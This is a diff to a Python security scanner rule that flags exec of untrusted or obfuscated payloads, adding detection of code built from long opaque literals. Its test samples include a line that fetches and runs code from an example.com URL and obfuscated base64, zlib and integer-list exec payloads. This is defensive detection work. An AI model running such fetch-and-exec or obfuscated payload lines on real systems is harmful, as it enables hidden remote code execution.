@@ -78,6 +78,33 @@ _APPLIES = ps.any_of(
 )
 
 
+_OPAQUE_TEXT = 120  # characters of a string literal
+_OPAQUE_NUMBERS = 64  # integers in a list or tuple literal
+_DIGIT_CODES = re.compile(r"\d+(?:[/,;:|.\- ]\d+){30,}")  # "8936/8940/8943/...": character codes as text
+
+
+def _opaque(expr: cst.BaseExpression) -> bool:
+    """A long literal that is not text a person would write: a list/tuple of many integers, character codes written
+    as text, or a string without whitespace (code and prose have it) that is not a URL or a path."""
+    if isinstance(expr, (cst.List, cst.Tuple)):
+        return len(expr.elements) >= _OPAQUE_NUMBERS and all(isinstance(e.value, cst.Integer) for e in expr.elements)
+    if not isinstance(expr, (cst.SimpleString, cst.ConcatenatedString)):
+        return False
+    value = fold_str(expr)
+    if value is None or len(value) < _OPAQUE_TEXT:
+        return False
+    if _DIGIT_CODES.fullmatch(value):
+        return True
+    return not any(c.isspace() for c in value) and "://" not in value and value.count("/") * 4 < len(value)
+
+
+def _describe(literal: cst.BaseExpression) -> str:
+    if isinstance(literal, (cst.List, cst.Tuple)):
+        return f"{len(literal.elements)}-number"
+    value = fold_str(literal) or ""
+    return f"{len(value)}-character"
+
+
 class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
     """Code execution or unsafe deserialization of data fetched from the network or hidden in an encoded literal.
 
@@ -101,6 +128,9 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
     - an environment variable: **medium**; a local file or command-line input: **low**; but code
       from a file or environment variable that is base64/hex/zlib-decoded on its way to `exec`
       (a payload shipped encoded in a data file of the package): **high**;
+    - code built at run time by the module's own functions or classes from a long opaque literal
+      (64+ integers, character codes written as text, 120+ characters without whitespace) through
+      steps the scanner cannot decode, as class-based obfuscators do: **high**, medium confidence;
     - a constant: nothing (`exec("1+1")` is not a backdoor).
 
     Names are resolved through aliases and dynamic tricks (`getattr(builtins, 'ex'+'ec')`,
@@ -160,6 +190,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
         "import base64, zlib\ndef unpack(b):\n    return zlib.decompress(base64.b64decode(b[::-1]))\n"
         "exec(unpack(b'==w0IE0gAIA5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))\n",
+        "class K:\n    def __init__(self, d):\n        self.d = d\n    def __call__(self):\n        return bytes(self.d)\n"
+        "exec(K([" + ", ".join(["105"] * 64) + "])().decode())\n",
     )
 
     @classmethod
@@ -309,6 +341,40 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
                 return None  # `python script.py -c x`: the -c belongs to the script
         return None
 
+    def _check_opaque(self, node: cst.Call, sink: str, arg: cst.BaseExpression, an: Analyzer) -> None:
+        """`exec(Kramer("8936/8940/...", 8831)())`: code built at run time, by functions or classes of the module, from
+        a long literal that is not text (digits, base64-like, a list of byte values). No decoder the scanner knows is
+        in the way, so the code cannot be shown, but nothing else builds what it runs from such a literal."""
+        literal = self._opaque_origin(arg, an, 0, set())
+        if literal is None:
+            return
+        self.report(node, f"{sink} runs code built at run time from an opaque {_describe(literal)} literal "
+                    f"(an obfuscator's payload)", severity=Severity.HIGH, confidence=Confidence.MEDIUM,
+                    flow=((literal, "opaque literal"), (node, f"sink: {sink}")))
+
+    def _opaque_origin(self, expr: cst.BaseExpression | None, an: Analyzer, depth: int, seen: set[str]
+                       ) -> cst.BaseExpression | None:
+        """An opaque literal the expression is computed from: through calls (their receiver and arguments), method
+        calls, subscripts and names bound once."""
+        if expr is None or depth > 8:
+            return None
+        if _opaque(expr):
+            return expr
+        d = depth + 1
+        if isinstance(expr, cst.Name):
+            if expr.value in seen:
+                return None
+            seen.add(expr.value)
+            return self._opaque_origin(an.names.single_value(expr.value), an, d, seen)
+        if isinstance(expr, (cst.Attribute, cst.Subscript)):
+            return self._opaque_origin(expr.value, an, d, seen)
+        if isinstance(expr, cst.Call):
+            for part in (expr.func, *(a.value for a in expr.args)):
+                found = self._opaque_origin(part, an, d, seen)
+                if found is not None:
+                    return found
+        return None
+
     @staticmethod
     def _decoded_on_the_way(source: object, an: Analyzer) -> str | None:
         """The base64/hex/zlib-like decoder data passes through between its source and the sink, if any. Not when it
@@ -351,6 +417,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         if not sources and kind == "deserialize" and peeled is not None and "marshal" in qualified:
             sources[DECODED] = None  # type: ignore[assignment]  # marshal of a literal: hidden code objects
         if not sources:
+            if kind == "code" and not nested:
+                self._check_opaque(node, sink, arg, an)
             return
         label = max(sources, key=lambda lab: (_SEVERITY[lab], lab))
         severity, confidence = _SEVERITY[label], _CONFIDENCE[label]
